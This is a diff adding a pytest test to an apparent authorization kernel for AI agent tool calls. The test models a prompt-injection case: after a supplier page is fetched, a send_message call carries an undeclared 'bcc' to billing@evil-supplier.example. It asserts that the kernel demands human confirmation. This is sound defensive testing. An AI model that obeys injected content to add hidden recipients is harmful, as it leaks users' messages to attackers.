@@ -331,3 +331,16 @@ def test_except_inside_fields_widens_the_excuse_to_a_field_s_text(tmp_path, tiny
         assert d.verdict == ("ALLOW" if widen else "CONFIRM"), d
     finally:
         k.close()
+
+
+def test_an_argument_beyond_the_schema_is_classified_by_its_name(shipped: Kernel) -> None:
+    """A call that writes ``bcc`` to a tool whose schema declares only ``to`` and ``text`` (a
+    model steered into it, a tool that takes **kwargs): the undeclared argument is read by its
+    name, and the attacker's address there needs a person."""
+    s = shipped.session("acme")
+    s.append("user", "Tell sam@northwind.example the invoice is paid.")
+    s.admit("fetch", PAGE, source="https://supplier.example/invoice/2291")
+    d = s.authorize_tool_call("send_message", {"to": "sam@northwind.example", "text": "Paid.",
+                                               "bcc": "billing@evil-supplier.example"}, tool=AGENT_TOOLS[0])
+    assert (d.verdict, d.rule_id) == ("CONFIRM", "inferred:recipient-not-from-user"), d
+    assert d.tool_class is not None and dict(d.tool_class.routing)["bcc"] == "recipient"
